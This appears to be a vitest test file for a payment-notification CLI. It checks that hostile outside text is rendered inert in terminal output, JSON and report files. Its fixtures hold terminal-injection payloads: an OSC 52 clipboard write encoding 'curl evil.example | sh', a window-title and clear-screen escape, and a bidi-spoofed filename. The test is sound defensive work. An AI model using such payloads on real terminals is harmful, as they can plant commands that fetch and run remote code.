import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { hasUnsafeText, inert, inertForTerminal, inertLines } from '../../src/shared/inert-text.js';
import { cli } from '../../src/cli.js';
import { memoryIO, type CommandIO } from '../../src/shared/command-io.js';
import { runSuite } from '../../src/commands/run.js';
import { demoConfig } from '../../src/commands/demo.js';
import { PACKAGE_ROOT } from '../../src/paths.js';
import { redact } from '../../src/shared/redact.js';
import { testKeys } from '../support/suite-fixture.js';
import { expectInert, expectNoSecret, expectOneLine, HOSTILE_TEXT } from './support.js';

/**
 * Issue 18, class 4: text from outside is inert on a terminal. The escaping itself
 * (src/shared/inert-text.ts), then each surface: the run's table (a receiver's answer), doctor
 * (config values), error lines (file names), with colour on and off; the HTML and JUnit reports
 * keep holding no live character.
 */

const ALL_HOSTILE = Object.values(HOSTILE_TEXT).join(' | ');

describe('inert text', () => {
  it('escapes every hostile class as a visible \\uXXXX', () => {
    for (const [name, text] of Object.entries(HOSTILE_TEXT)) {
      expect(hasUnsafeText(text), name).toBe(true);
      expectInert(inert(text), name);
      expectInert(inertLines(text), name);
    }
    expect(inert(HOSTILE_TEXT.clipboard)).toBe('\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007');
    expect(inert(HOSTILE_TEXT.bidiOverride)).toBe('refund \\u202efdp.exe');
    expect(inert(HOSTILE_TEXT.tags)).toBe('x\\udb40\\udc41\\udb40\\udc42\\udb40\\udc7f');
    expect(inert('a\nb\tc')).toBe('a\\u000ab\\u0009c');
    expect(inertLines('a\nb\tc')).toBe('a\nb\\u0009c');
  });

  it('leaves ordinary text alone: CJK, emoji, accents, Windows paths, JSON escapes', () => {
    const ordinary =
      '支付成功 微信支付公钥 ✅ 🎉 café C:\\Users\\me\\wxpay.json {"a":"\\u001b"} <xml><![CDATA[x]]></xml>';
    expect(inert(ordinary)).toBe(ordinary);
    expect(hasUnsafeText(ordinary)).toBe(false);
  });

  it('the last pass keeps only our own colours, and only when colour is on', () => {
    const ours = '\u001b[31mFAIL\u001b[0m \u001b[32mPASS\u001b[0m \u001b[90mskip\u001b[0m';
    expect(inertForTerminal(ours, { color: true })).toBe(ours);
    expectInert(inertForTerminal(ours, { color: false }), 'colour off');
    // Our exact colour sequences pass this last step from anywhere (it cannot tell whose they are):
    // renderers make outside text inert before painting it (the run test below shows a recolouring
    // answer stays escaped in the table). Everything else is escaped here.
    const { recolour: _ours, ...others } = HOSTILE_TEXT;
    const mixed = inertForTerminal(`${ours} ${Object.values(others).join(' | ')}`, { color: true });
    expect(mixed.startsWith(ours)).toBe(true);
    expectInert(mixed.slice(ours.length), 'after our colours');
    // A sequence that merely starts like ours is text: \e[31;1m, \e[8m (conceal), \e[2J.
    for (const near of ['\u001b[31;1m', '\u001b[8m', '\u001b[2J', '\u001b[38;5;1m'])
      expectInert(inertForTerminal(near, { color: true }), JSON.stringify(near));
  });

  it('JSON passed through the last pass still parses to the same value', () => {
    const value = {
      body: ALL_HOSTILE,
      header: HOSTILE_TEXT.bidiIsolate,
      list: [HOSTILE_TEXT.tags, HOSTILE_TEXT.c1Osc],
    };
    const text = JSON.stringify(value, null, 2);
    const shown = inertForTerminal(text, { color: false });
    expectInert(shown, 'json');
    expect(JSON.parse(shown)).toEqual(value);
  });
});

/** A receiver that answers every notification with `body` and a header holding hostile text. */
async function hostileReceiver(body: string): Promise<{ url: string; server: Server }> {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      // A header may carry bytes 0x80–0xFF: C1 CSI and OSC.
      res.writeHead(500, { 'content-type': 'text/plain; charset=utf-8', 'x-evil': '\u009b2J\u009d0;owned\u009c' });
      res.end(body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, server };
}

/** A CommandIO with colour on that masks and makes text inert exactly as processIO does on a terminal. */
function colourIO(): CommandIO & { stdout: string; stderr: string } {
  const secrets: string[] = [];
  const io = {
    stdout: '',
    stderr: '',
    color: true,
    tty: false,
    out: (text: string) => void (io.stdout += inertForTerminal(redact(text, secrets), { color: true })),
    err: (text: string) => void (io.stderr += inertForTerminal(redact(text, secrets), { color: false })),
    addSecrets: (list: readonly string[]) => void secrets.push(...list),
  };
  return io;
}

describe("the run: a receiver's answer reaches the table, JSON and report files inert", () => {
  it('escape sequences, C1, bidi and invisible characters in the answer, and the keys it echoes', async () => {
    const keys = testKeys();
    const secrets = [keys.apiKey, keys.apiV3Key];
    // The echoed secrets, in the encodings a receiver may use; the masker must catch each.
    const echo = `${ALL_HOSTILE} raw=${keys.apiKey} json=${JSON.stringify(keys.apiV3Key)} url=${encodeURIComponent(keys.apiKey)} xml=${keys.apiKey.replace(/&/g, '&amp;').replace(/</g, '&lt;')}`;
    const { url, server } = await hostileReceiver(echo);
    try {
      const dir = mkdtempSync(join(tmpdir(), 'wxpay-terminal-'));
      const config = demoConfig(keys, url, dir);
      const args = {
        format: 'table' as const,
        reporters: ['junit' as const, 'html' as const, 'json' as const],
        reporterDir: dir,
        insecure: false,
        only: ['v2.pay.success', 'v3.pay.success'],
      };
      const coloured = colourIO();
      expect(await runSuite(config, args, coloured, 'hostile')).toBe(1);
      const plain = memoryIO();
      expect(await runSuite(config, { ...args, format: 'json', reporters: [] }, plain, 'hostile')).toBe(1);

      // The table quotes the answer, escaped; our colours are there, nothing else is live.
      expect(coloured.stdout).toContain('\u001b[31m');
      expect(coloured.stdout).toMatch(/\\u001b\[2J/);
      expectInert(coloured.stdout.replace(/\u001b\[(?:0|3[0-7]|9[0-7])m/g, ''), 'table (colour)');
      expectInert(coloured.stderr, 'stderr (colour)');
      expectInert(plain.stdout, 'json');
      const parsed = JSON.parse(plain.stdout) as { deliveries: { response?: { body?: string } }[] };
      expect(parsed.deliveries.some((d) => d.response?.body?.includes('\u001b]52;c;'))).toBe(true);

      // Report files: JUnit is XML (no C0 control is even legal), HTML shows the answer as text.
      const junit = readFileSync(join(dir, 'demo.junit.xml'), 'utf8');
      const html = readFileSync(join(dir, 'demo.report.html'), 'utf8');
      expect(junit).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
      expect(html).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
      const files = junit + html + readFileSync(join(dir, 'demo.results.json'), 'utf8');
      expectNoSecret(
        coloured.stdout + coloured.stderr + plain.stdout + plain.stderr + files,
        secrets,
        'run output and reports',
      );
    } finally {
      server.close();
    }
  }, 90_000);
});

describe('doctor and error lines', () => {
  it('doctor shows config values with bidi and invisible characters escaped', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'wxpay-terminal-'));
    const config = join(dir, 'wxpay-notify.json');
    writeFileSync(
      config,
      JSON.stringify({
        name: 'acme',
        appid: `wx${HOSTILE_TEXT.bidiOverride}`,
        mchid: `19${HOSTILE_TEXT.zeroWidth}`,
        v2: {
          notifyUrl: `http://127.0.0.1:9/n/${HOSTILE_TEXT.bidiIsolate.replace(/ /g, '')}`,
          refundNotifyUrl: 'http://127.0.0.1:9/r',
          apiKey: 'k7Hq2Lm9Xw4Rt8Yp3Zs6Vb1Nc5Df0Gj!',
        },
      }),
    );
    const io = memoryIO();
    await cli(['doctor', '-c', config, '--skip-network', '--allow-private'], io);
    expect(io.stdout).toContain('\\u2066admin\\u2069');
    expectInert(io.stdout, 'doctor');
    expectInert(io.stderr, 'doctor stderr');
    const json = memoryIO();
    await cli(['doctor', '-c', config, '--skip-network', '--allow-private', '--format', 'json'], json);
    expectInert(json.stdout, 'doctor json');
    // Escaped as JSON escapes: the same value to a JSON reader.
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain('\u2066admin\u2069');
  }, 30_000);

  it('an error line naming a hostile file name is one inert line', async () => {
    const name = join(
      tmpdir(),
      `missing${HOSTILE_TEXT.windowTitle}${HOSTILE_TEXT.clearScreen}\n${HOSTILE_TEXT.bidiOverride}.json`,
    );
    const io = memoryIO();
    expect(await cli(['generate', '-c', name], io)).toBe(2);
    expectInert(io.stderr, 'error line');
    expectOneLine(
      io.stderr,
      /^wxpay-notify: config file not found: .*missing\\u001b\]0;owned\\u0007\\u001b\[2J\\u001b\[H\\u000a.*\.json; run `wxpay-notify init` to create one$/m,
    );
  });

  it('the spawned CLI writes no live character (lint-url with an escape in the URL)', () => {
    const child = spawnSync(
      process.execPath,
      [
        join(PACKAGE_ROOT, 'dist/cli.js'),
        'lint-url',
        `https://shop.example.com/${HOSTILE_TEXT.clipboard}${HOSTILE_TEXT.bidiOverride}`,
      ],
      {
        encoding: 'utf8',
        timeout: 30_000,
      },
    );
    expect(child.stdout + child.stderr).toMatch(/\\u001b\]52;c;/);
    expectInert(child.stdout, 'lint-url stdout');
    expectInert(child.stderr, 'lint-url stderr');
  }, 30_000);
});
